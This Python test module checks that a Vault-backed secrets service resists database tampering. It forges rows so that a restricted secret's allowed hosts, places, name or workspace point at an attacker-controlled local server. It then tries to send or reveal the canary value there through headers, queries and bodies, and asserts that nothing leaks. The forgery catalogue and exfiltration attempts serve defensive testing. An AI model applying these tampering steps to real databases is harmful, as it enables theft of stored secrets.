"""Whoever can write to the database still can't send a value anywhere: Vault keeps its own word on every secret."""

from __future__ import annotations

import json
import secrets
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import pytest
from sqlalchemy import text

from tests.support import databases
from tests.support.service import Service, problem
from tests.support.upstream import Upstream
from tests.support.upstream import upstream as run_upstream

LONG_AGO = "2020-01-01 00:00:00.000000"


@dataclass
class Scene:
    """A restricted secret that may go to one honest host, and a host of the attacker's."""

    service: Service
    honest: Upstream
    evil: Upstream
    workspace: str
    other: str
    value: str

    def host(self, upstream: Upstream) -> str:
        return f"127.0.0.1:{upstream.port}"

    def forge(self, columns: Mapping[str, object]) -> None:
        sets = ", ".join(f"{column} = :{column}" for column in columns)
        with databases.connected(self.service.database_url) as connection:
            forged = connection.execute(
                text(f"UPDATE variables SET {sets} WHERE workspace = :here"), dict(columns) | {"here": self.workspace}
            )
            assert forged.rowcount == 1

    def row(self) -> Mapping[str, Any] | None:
        with databases.connected(self.service.database_url) as connection:
            found = connection.execute(
                text("SELECT workspace, name, allowed_hosts FROM variables WHERE workspace IN (:here, :there)"),
                {"here": self.workspace, "there": self.other},
            )
            row = found.mappings().first()
            return dict(row) if row else None

    def attack(self) -> None:
        """Try to have the value sent or shown, by every name and from either workspace."""
        for workspace in (self.workspace, self.other):
            for name in ("TOKEN", "OTHER"):
                template = "{{secrets." + name + "}}"
                for upstream in (self.evil, self.honest):
                    url = f"http://{self.host(upstream)}/"
                    for call in (
                        {"url": url, "headers": [{"name": "Authorization", "value": template}]},
                        {"url": url, "query": [{"name": "q", "value": template}]},
                        {"url": url, "method": "POST", "body": {"type": "text", "content": template}},
                    ):
                        self.service.ask("POST", f"/workspaces/{workspace}/calls", call)
                self.service.ask("POST", f"/workspaces/{workspace}/secrets/{name}/reveal")

    def assert_nothing_went_anywhere(self) -> None:
        told = "".join(str((each.path, each.headers, each.body)) for each in self.evil.seen)
        assert "canary" not in told
        for each in self.honest.seen:
            assert "canary" not in each.path
            assert b"canary" not in each.body
        assert not any("canary" in answer for answer in self.service.answers)

    def red(self) -> list[str]:
        report = self.service.command("doctor", "--json")
        return [each["check"] for each in json.loads(report.stdout) if each["state"] == "red"]


@pytest.fixture
def scene(service: Service, upstream: Upstream) -> Iterator[Scene]:
    service.answers.clear()
    here, there = f"w{secrets.token_hex(6)}", f"w{secrets.token_hex(6)}"
    for workspace in (here, there):
        assert service.ask("POST", "/workspaces", {"name": workspace}).status_code == 201
    with run_upstream() as evil:
        scene = Scene(service, upstream, evil, here, there, "canary-" + secrets.token_hex(16))
        body = {
            "name": "TOKEN",
            "value": scene.value,
            "visibility": "restricted",
            "allowed_hosts": [scene.host(upstream)],
        }
        assert service.ask("POST", f"/workspaces/{here}/secrets", body).status_code == 201
        yield scene
        with databases.connected(service.database_url) as connection:
            connection.execute(
                text("DELETE FROM variables WHERE workspace IN (:here, :there)"), {"here": here, "there": there}
            )


def _hosts(upstream: Upstream) -> str:
    return json.dumps([f"127.0.0.1:{upstream.port}"])


ANYWHERE = json.dumps(["header:Authorization", "basic", "query", "body"])
TRUE_PLACES = json.dumps(["basic", "header:Authorization"])

FORGERIES: Mapping[str, Callable[[Scene], Mapping[str, object]]] = {
    "allowed_hosts": lambda scene: {"allowed_hosts": _hosts(scene.evil)},
    "allowed_places": lambda _: {"allowed_places": ANYWHERE},
    "visibility": lambda _: {"visibility": "masked", "version": 0},
    "name": lambda _: {"name": "OTHER", "folded_name": "other"},
    "id": lambda _: {"id": "0" * 32},
    "workspace": lambda scene: {"workspace": scene.other, "allowed_hosts": _hosts(scene.evil)},
    "next rules": lambda scene: {
        "next_hosts": _hosts(scene.evil), "next_places": ANYWHERE, "unfinished": True, "touched_at": LONG_AGO,
    },
    "old and next rules": lambda scene: {
        "allowed_hosts": _hosts(scene.evil), "allowed_places": ANYWHERE,
        "next_hosts": json.dumps(["127.0.0.3:1"]), "next_places": ANYWHERE,
        "unfinished": True, "touched_at": LONG_AGO, "version": 0,
    },
    "rules and the true ones as next": lambda scene: {
        "allowed_hosts": _hosts(scene.evil), "allowed_places": ANYWHERE,
        "next_hosts": _hosts(scene.honest), "next_places": TRUE_PLACES, "unfinished": True, "touched_at": LONG_AGO,
    },
    "unfinished rules": lambda scene: {
        "allowed_hosts": _hosts(scene.evil), "unfinished": True, "touched_at": LONG_AGO, "version": 0,
    },
    "an unfinished creation": lambda scene: {
        "allowed_hosts": _hosts(scene.evil), "state": "pending", "unfinished": True, "touched_at": LONG_AGO,
    },
}  # fmt: skip


# What reconcile takes back, since Vault's own word is one of the two that the row says, or the row was never told.
MENDED = {"next rules", "rules and the true ones as next", "an unfinished creation"}


_QUICK = {"allowed_hosts", "rules and the true ones as next"}  # the others are among the slow tests


@pytest.mark.parametrize(
    "forgery", [pytest.param(name, marks=() if name in _QUICK else pytest.mark.slow) for name in FORGERIES]
)
def test_a_forged_row_sends_nothing_anywhere(scene: Scene, forgery: str) -> None:
    forged = FORGERIES[forgery](scene)
    scene.forge(forged)
    scene.attack()
    # Neither the service's own mending nor an honest owner's next change makes the forgery good.
    if "unfinished" in forged:
        scene.service.command("reconcile")
        scene.attack()
    _change_something(scene)
    scene.attack()
    scene.assert_nothing_went_anywhere()
    if forgery not in MENDED:
        row = scene.row()
        assert row is not None
        assert f"binding {row['workspace']}/{row['name']}" in scene.red()


def _change_something(scene: Scene) -> None:
    for workspace in (scene.workspace, scene.other):
        for name in ("TOKEN", "OTHER"):
            path = f"/workspaces/{workspace}/secrets/{name}"
            read = scene.service.ask("GET", path)
            if read.status_code == 404:
                continue
            etag = {"If-Match": read.headers["ETag"]}
            narrower = scene.service.ask("PATCH", path, {"allowed_places": ["header:Authorization"]}, headers=etag)
            value = {"value": "canary-" + secrets.token_hex(16)}
            scene.service.ask("PUT", f"{path}/value", value)
            scene.service.ask("POST", f"{path}/rollback", {"version": 1})
            if narrower.status_code != 200:
                assert problem(narrower) in [(503, "binding_mismatch"), (409, "conflict")], narrower.text


@pytest.mark.slow
def test_what_vault_was_told_comes_back_into_force_by_itself(scene: Scene) -> None:
    scene.forge(FORGERIES["rules and the true ones as next"](scene))
    scene.service.command("reconcile")
    row = scene.row()
    assert row is not None
    assert _hosts(scene.honest) in (row["allowed_hosts"], json.dumps(row["allowed_hosts"]))
    assert f"binding {scene.workspace}/TOKEN" not in scene.red()


@pytest.mark.slow
def test_a_value_that_the_database_lost_sight_of_is_not_given_new_rules(scene: Scene) -> None:
    with databases.connected(scene.service.database_url) as connection:
        connection.execute(text("DELETE FROM variables WHERE workspace = :here"), {"here": scene.workspace})
    body = {
        "name": "TOKEN",
        "value": "attackers-own-" + secrets.token_hex(16),
        "visibility": "restricted",
        "allowed_hosts": [scene.host(scene.evil)],
    }
    made = scene.service.ask("POST", f"/workspaces/{scene.workspace}/secrets", body)
    assert problem(made) == (409, "conflict")
    scene.service.command("reconcile")
    scene.attack()
    scene.assert_nothing_went_anywhere()
    assert scene.row() is None
